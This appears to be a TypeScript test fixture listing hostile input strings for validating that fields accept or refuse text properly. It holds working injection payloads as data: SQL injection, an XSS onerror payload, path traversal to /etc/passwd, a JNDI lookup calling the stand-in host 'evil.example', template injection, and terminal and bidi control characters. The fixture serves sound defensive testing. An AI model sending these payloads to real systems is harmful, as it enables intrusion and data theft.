/**
 * Text that means something to a database, a browser, a file system or a template, and fits into every line of the
 * contract. Where free text belongs it is taken and comes back as it was; anywhere else it is refused.
 */
export const hostileText = "'; DROP TABLE offer;--<script>../%00";

/** More of the kind, sent where free text does not belong. */
export const hostileTexts = [
  hostileText,
  "' OR '1'='1",
  '<img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template is what it wants to be
  '${jndi:ldap://evil.example/a}{{7*7}}',
  '%00',
  '__proto__',
  'constructor',
  'toString',
  'null',
  'ⅷ①٣',
  'İKſ',
];

/** Text that no field takes: half a character, NUL, and characters that steer a terminal or turn the direction of reading. */
export const unprintableTexts = ['\ud800', 'a\u0000b', 'a\u0007b', 'a\u001b[31mb', 'a\u202eb', 'a\u2067b'];
